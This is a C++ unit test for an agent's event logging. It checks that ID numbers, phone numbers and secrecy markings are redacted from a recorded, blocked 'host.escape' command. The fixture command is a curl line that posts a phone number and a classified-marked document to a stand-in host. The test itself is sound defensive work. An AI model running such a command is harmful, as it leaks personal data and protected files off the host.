#include "agent/events.h"

#include <gtest/gtest.h>

#include "crypto/random.h"

namespace kw::agent {
namespace {

struct StillClock final : Clock {
  Timestamp now() const override { return Timestamp::from_seconds(1000); }
  Duration steady() const override { return {}; }
};

TEST(Events, NumbersOfPeopleLeaveWordsOfProgramsBeforeTheyAreKept) {
  const StillClock clock;
  crypto::SystemRandom random;
  auto event = make_event(
      "host.escape", "blocked",
      {{"command", "curl http://x/11010519491231002X -d tel=13800138000 机密★10年.doc"}, {"pid", "13800138000"}});
  const auto good = complete_event(event, v1::CLOCK_UNKNOWN, clock, random);
  ASSERT_TRUE(good.has_value()) << good.error().text();
  EXPECT_EQ(event.params().at("command"), "curl http://x/[id-number] -d tel=[phone] [marking].doc");
  EXPECT_EQ(event.params().at("pid"), "13800138000") << "no word of anybody";
}

}  // namespace
}  // namespace kw::agent
